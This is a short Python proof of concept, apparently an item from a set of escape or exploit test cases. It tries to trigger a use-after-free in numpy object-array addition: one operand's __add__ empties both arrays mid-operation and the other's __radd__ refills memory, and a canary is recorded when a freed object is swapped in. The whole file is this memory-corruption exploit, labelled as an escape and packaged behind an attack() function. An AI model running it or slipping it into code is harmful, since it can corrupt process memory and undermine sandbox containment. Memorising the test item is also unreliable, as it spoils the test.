"""Class: memory. Source: own find. Escape: while an array of objects is added, a method empties it; the
object that numpy hands to the next method has been freed, and is another by now."""

import numpy as np


class Other:
    def __init__(self):
        self.x = 0


class Left:
    def __init__(self):
        self.x = 1

    def __add__(self, other):
        a[:] = 0
        b[:] = 0
        return NotImplemented


class Right:
    def __init__(self):
        self.x = 1

    def __radd__(self, other):
        kept.extend(Other() for _ in range(20_000))
        if type(other) is not Left:
            seen.append("canary-" + "5d1f")
        return 0


kept = []
seen = []
a = np.array([Left() for _ in range(100)], dtype=object)
b = np.array([Right() for _ in range(100)], dtype=object)


def attack(model, tokenizer, address):
    a + b
    return seen
